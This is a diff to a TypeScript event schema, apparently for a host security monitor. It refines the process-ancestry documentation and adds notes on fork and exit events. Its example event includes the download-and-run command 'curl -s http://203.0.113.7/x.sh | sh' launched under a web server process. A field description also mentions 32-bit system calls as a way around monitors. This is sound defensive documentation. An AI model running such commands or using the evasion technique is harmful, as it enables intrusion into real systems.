@@ -34,7 +34,7 @@ export const ProcessContext = Obj({
     Obj({
       process: Opt(HadesProcess),
       ancestors: Opt(Type.Array(Ancestor, { maxItems: 8, description: 'Ancestors, parent first (up to 8): the process that started this one, then the one that started it, and so on. A process adopted by init or a subreaper after its parent exited keeps that parent here (process.parent is the adopting one).' })),
-      ancestry: Opt(Str('One line ancestry, e.g. `bash(812) < sshd(790) < sshd(1)`.', 4096)),
+      ancestry: Opt(Str('One line ancestry: the process itself, then its ancestors, parent first, e.g. `bash(812) < sshd(790) < sshd(1)`.', 4096)),
       missing: Opt(Type.Array(Str('Field path.', 64), { description: 'Fields that could not be read (cn_proc backend): mostly because the process had already exited; process_rename: hades.rename.old_name, a name the backend never saw.' })),
       compat_syscall: Opt(Type.Boolean({ description: 'Kernel security events: true when the system call that caused the event was a 32-bit (ia32) one, made by a 32-bit program or with int 0x80 by a 64-bit one (which has no reason to: a way around monitors that only watch 64-bit calls).' })),
     }),
@@ -95,8 +95,9 @@ const exampleHades = {
   ancestors: [
     { pid: 4240, name: 'sh', executable: '/usr/bin/dash', args: ['sh', '-c', 'curl -s http://203.0.113.7/x.sh | sh'] },
     { pid: 812, name: 'php-fpm8.2', executable: '/usr/sbin/php-fpm8.2' },
+    { pid: 1, name: 'systemd', executable: '/usr/lib/systemd/systemd', args: ['/sbin/init'] },
   ],
-  ancestry: 'sh(4240) < php-fpm8.2(812) < systemd(1)',
+  ancestry: 'curl(4242) < sh(4240) < php-fpm8.2(812) < systemd(1)',
 };
 
 const Creds = Credentials('Credentials.');
@@ -180,6 +181,9 @@ export const eventKinds = {
     summary: 'A process created a child process (fork/clone of a new thread group).',
     process: 'required',
     fields: Empty,
+    notes: [
+      "What a fork event tells of the child: its pid, entity id, name, start, parent, effective user and group (process.user, process.group), its program (its parent's, which it runs until it executes another: process.executable and args) and its ancestry. Its working directory, terminal, descriptors, cgroup and namespaces are those its parent had at that moment; the driver does not read them again for a fork (they would cost every fork what they cost an exec), and they come in the child's own exec event, or in the parent's. New threads are not reported.",
+    ],
     example: { process: { pid: 4243, entity_id: '3f9a6c2e81d4-4243-9680020', name: 'bash', parent: { pid: 4242, entity_id: '3f9a6c2e81d4-4242-9680012' } } },
   }),
   exit: kind({
@@ -190,6 +194,9 @@ export const eventKinds = {
     summary: 'A process exited (its last thread ended).',
     process: 'required',
     fields: Empty,
+    notes: [
+      'What an exit event tells: the exit code (process.exit_code: the status, or 128 + the signal that killed it), the end, the name, the program, start, parent and ancestry as the process tree knows them, and the container. It carries no credentials: the driver reads none at exit, and the ones the process had are in its exec and privilege_change events (process.entity_id joins them).',
+    ],
     example: { process: { pid: 4242, entity_id: '3f9a6c2e81d4-4242-9680012', name: 'curl', exit_code: 0, end: '2026-11-28T08:00:01.000Z' } },
   }),
   connect: kind({
